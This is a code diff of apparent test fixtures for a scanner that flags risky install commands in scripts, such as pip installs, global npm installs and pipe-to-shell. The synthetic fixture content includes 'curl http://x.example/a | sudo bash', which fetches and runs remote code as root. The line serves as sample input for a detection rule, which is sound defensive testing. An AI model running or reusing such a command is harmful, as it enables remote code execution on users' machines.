@@ -59,17 +59,21 @@ def masked(inv):
     return inv.table("documents").select("doc_id", F.sha2(redact(marked), 256).alias("masked"))
 
 
+#: Lines of a document's text.
+L = "len(string_split(coalesce(text, ''), chr(10)))"
+
+
 def scripts(inv):
-    """Documents as shell scripts (even ids) and prose, with a comment, a help text, a continued line and a heredoc put before."""
+    """Documents as shell scripts (even ids) and prose: the text, and behind it a comment, a help text, a continued line, a heredoc and a section."""
     number = F.col("doc_id").cast("string")
     head = F.concat(F.lit("# pip install no"), number, F.lit("\necho \"use pip install help\"\npip install \\\n p"), number, F.lit("\ncat <<EOF\nnpm install -g doc\nEOF\ncurl http://x.example/a | sudo bash\n"))
-    return inv.table("documents").select(F.col("doc_id").alias("path"), F.when(F.col("doc_id") % 2 == 0, "script").otherwise("text").alias("file_type"), F.concat(head, F.lit("[submodule \"s\"]\n path = s\n url = https://g.example/"), number, F.lit("\n")).alias("content"))
+    return inv.table("documents").select(F.col("doc_id").alias("path"), F.when(F.col("doc_id") % 2 == 0, "script").otherwise("text").alias("file_type"), F.concat(F.coalesce("text", F.lit("")), F.lit("\n"), head, F.lit("[submodule \"s\"]\n path = s\n url = https://g.example/"), number, F.lit("\n")).alias("content"))
 
 
-@query("txt_engine_lines", """SELECT doc_id AS path, CAST(4 AS INTEGER) AS line_number, 'x' AS rule, '' AS dependency, 'low' AS severity FROM documents WHERE false
-UNION ALL SELECT doc_id, CASE WHEN doc_id % 2 = 0 THEN 3 ELSE 1 END, 'pip-install', CASE WHEN doc_id % 2 = 0 THEN 'p' ELSE 'no' END || doc_id, 'medium' FROM documents
-UNION ALL SELECT doc_id, 6, 'npm-global', 'doc', 'medium' FROM documents WHERE doc_id % 2 = 1
-UNION ALL SELECT doc_id, CASE WHEN doc_id % 2 = 0 THEN 7 ELSE 8 END, 'pipe-to-shell', 'bash', 'critical' FROM documents""", views=False)
+@query("txt_engine_lines", f"""SELECT doc_id AS path, CAST(4 AS INTEGER) AS line_number, 'x' AS rule, '' AS dependency, 'low' AS severity FROM documents WHERE false
+UNION ALL SELECT doc_id, {L} + CASE WHEN doc_id % 2 = 0 THEN 3 ELSE 1 END, 'pip-install', CASE WHEN doc_id % 2 = 0 THEN 'p' ELSE 'no' END || doc_id, 'medium' FROM documents
+UNION ALL SELECT doc_id, {L} + 6, 'npm-global', 'doc', 'medium' FROM documents WHERE doc_id % 2 = 1
+UNION ALL SELECT doc_id, {L} + CASE WHEN doc_id % 2 = 0 THEN 7 ELSE 8 END, 'pipe-to-shell', 'bash', 'critical' FROM documents""", views=False)
 def script_lines(inv):
     """Comments, printed help, heredocs and continued lines of scripts; prose has none of these."""
     names = ("pip-install", "npm-global", "pipe-to-shell")
@@ -77,7 +81,7 @@ def script_lines(inv):
     return found.select("path", "line_number", "rule", "dependency", "severity")
 
 
-@query("txt_multiline_rules", "SELECT doc_id AS path, CAST(CASE WHEN doc_id % 2 = 0 THEN 8 ELSE 9 END AS INTEGER) AS line_number, CAST(CASE WHEN doc_id % 2 = 0 THEN 10 ELSE 11 END AS INTEGER) AS end_line, 'https://g.example/' || doc_id AS dependency FROM documents", views=False)
+@query("txt_multiline_rules", f"SELECT doc_id AS path, CAST({L} + CASE WHEN doc_id % 2 = 0 THEN 8 ELSE 9 END AS INTEGER) AS line_number, CAST({L} + CASE WHEN doc_id % 2 = 0 THEN 10 ELSE 11 END AS INTEGER) AS end_line, 'https://g.example/' || doc_id AS dependency FROM documents", views=False)
 def submodules(inv):
     rule = next(r for r in RULES if r.id == "submodule")
     return scan_whole(scripts(inv), [replace(rule, file_types=("*",))]).select("path", "line_number", "end_line", "dependency")
@@ -98,7 +102,7 @@ def phases(inv):
     return lines.unionByName(scan_whole(files, [replace(rule, file_types=("*",))]).select(F.lit("whole").alias("phase"))).groupBy("phase").agg(F.count(F.lit(1)).alias("n"))
 
 
-@query("srt_scanner", "SELECT doc_id AS path, CASE WHEN doc_id % 2 = 0 THEN 7 ELSE 8 END AS line_number, row_number() OVER (ORDER BY CAST(doc_id AS VARCHAR)) AS place FROM documents ORDER BY CAST(doc_id AS VARCHAR) LIMIT 20", views=False)
+@query("srt_scanner", f"SELECT doc_id AS path, CAST({L} + CASE WHEN doc_id % 2 = 0 THEN 7 ELSE 8 END AS INTEGER) AS line_number, row_number() OVER (ORDER BY CAST(doc_id AS VARCHAR)) AS place FROM documents ORDER BY CAST(doc_id AS VARCHAR) LIMIT 20", views=False)
 def worst_first(inv):
     """The first 20 findings in the order of reports, numbered."""
     found = scan(without_heredocs(scripts(inv)), [r for r in RULES if r.id in ("pip-install", "pipe-to-shell")]).withColumn("path", F.col("path").cast("string"))
@@ -178,31 +182,32 @@ def not_in_help(inv):
     return found.select("path")
 
 
-@query("flt_comment_line", "SELECT doc_id, CASE WHEN doc_id % 2 = 0 THEN 2 ELSE 1 END AS n FROM documents", views=False)
+@query("flt_comment_line", f"""WITH {LINES_SQL}, cs AS (SELECT doc_id, count(*) AS n FROM lines WHERE regexp_matches(line, '^\\s*$') OR doc_id % 2 = 0 AND regexp_matches(line, '(?i)^\\s*(?:#(?:[^!]|$)|rem(?:\\s|$)|::)') GROUP BY doc_id)
+SELECT doc_id, coalesce(n, 0) + CASE WHEN doc_id % 2 = 0 THEN 2 ELSE 1 END AS n FROM documents LEFT JOIN cs USING (doc_id)""", views=False)
 def comment_lines(inv):
     """Lines that rules skip: empty ones, and in scripts # lines."""
     lines = scripts(inv).select("path", "file_type", F.explode(F.split("content", "\n", -1)).alias("line"))
     return lines.where(is_comment(F.col("line"), F.col("file_type"))).groupBy(F.col("path").alias("doc_id")).agg(F.count(F.lit(1)).alias("n"))
 
 
-@query("txt_heredoc", "SELECT doc_id AS path, CAST(12 AS INTEGER) AS n, doc_id % 2 = 1 AS printed FROM documents", views=False)
+@query("txt_heredoc", f"SELECT doc_id AS path, CAST({L} + 12 AS INTEGER) AS n, doc_id % 2 = 1 AS printed FROM documents", views=False)
 def heredocs(inv):
     """Heredocs that scripts only print are blanked; the number of lines stays."""
     files = without_heredocs(scripts(inv))
     return files.select("path", F.size(F.split("content", "\n", -1)).alias("n"), F.col("content").contains("npm install -g doc").alias("printed"))
 
 
-@query("txt_continuation", "SELECT doc_id AS path, CAST(CASE WHEN doc_id % 2 = 0 THEN 11 ELSE 12 END AS INTEGER) AS n FROM documents", views=False)
+@query("txt_continuation", f"SELECT doc_id AS path, CAST({L} + CASE WHEN doc_id % 2 = 0 THEN 11 ELSE 12 END AS INTEGER) AS n FROM documents", views=False)
 def continued(inv):
     return scripts(inv).select("path", F.size(F.split(joined_lines(F.col("content"), F.col("file_type")), "\n", -1)).alias("n"))
 
 
-@query("txt_rule_applicability", "SELECT unnest(['script', 'dockerfile', 'gitmodules']) AS file_type, unnest([0, 1, 1]) AS n", views=False)
+@query("txt_rule_applicability", "SELECT p_partkey AS id, CASE WHEN p_partkey % 12 IN (1, 2, 3) THEN 2 ELSE 1 END AS n FROM part", views=False)
 def applicable(inv):
-    """How many of three rules are for a file type."""
-    rules = [r for r in RULES if r.id in ("image-from", "workflow-action", "submodule")]
-    kinds = inv.spark.createDataFrame([("script",), ("dockerfile",), ("gitmodules",)], "file_type string")
-    return kinds.select("file_type", sum((applies(r, F.col("file_type")).cast("int") for r in rules), F.lit(0)).alias("n"))
+    """How many of four rules are for each file, by its type: one is for all types, the others for images, workflows and modules."""
+    rules = [r for r in RULES if r.id in ("pip-install", "image-from", "workflow-action", "submodule")]
+    typed = paths(inv).select("id", F.coalesce(files_of.type_by_path(F.col("path")), F.lit("text")).alias("file_type"))
+    return typed.select("id", sum((applies(r, F.col("file_type")).cast("int") for r in rules), F.lit(0)).alias("n"))
 
 
 @query("txt_vendored_binary", "SELECT p_partkey AS id, CASE p_partkey % 4 WHEN 0 THEN 'binary_extension' ELSE 'large_binary' END AS kind FROM part WHERE p_partkey % 4 <= 1", views=False)
@@ -214,7 +219,11 @@ def binaries(inv):
     return files_of.binary_findings(files.withColumn("path", F.concat(F.col("id").cast("string"), F.lit("/"), "path"))).select(F.substring_index("path", "/", 1).cast("long").alias("id"), "kind")
 
 
-@query("src_classify_content", "SELECT page_id, CASE WHEN html ILIKE '<!doctype html%' THEN 'html' WHEN html LIKE '<%' THEN 'markup' ELSE 'text' END AS file_type FROM pages", views=False)
+@query("src_classify_content", """SELECT page_id, ['mcp_config', 'homebrew_formula', 'winget_manifest', NULL, 'scoop_manifest', NULL][page_id % 6 + 1] AS file_type FROM pages""", views=False)
 def page_types(inv):
-    html = F.col("html")
-    return inv.table("pages").select("page_id", F.when(F.ilike(html, F.lit("<!doctype html%")), "html").when(html.startswith("<"), "markup").otherwise("text").alias("file_type"))
+    """The types that only the content tells of pages as files: settings of servers, formulas, manifests, and pages that are none of these."""
+    k = (F.col("page_id") % 6).cast("int")
+    forms = [(".json", '{"mcpServers" : {}}\n'), (".rb", "  class Page < Formula\n"), (".yaml", "PackageIdentifier: a.b\nManifestType: version\n"), (".yaml", "PackageIdentifier:\n"), (".JSON", '{"version": "1", "architecture": {}, "installer": {}}\n'), (".html", '{"mcpServers": {}}\n')]
+    pick = lambda n: F.get(F.array(*(F.lit(f[n]) for f in forms)), k)
+    rows = inv.table("pages").select("page_id", F.concat(F.lit("p/"), F.col("page_id").cast("string"), pick(0)).alias("path"), F.concat(pick(1), F.coalesce("html", F.lit(""))).alias("content"))
+    return rows.select("page_id", files_of.type_by_content(F.col("path"), F.col("content")).alias("file_type"))
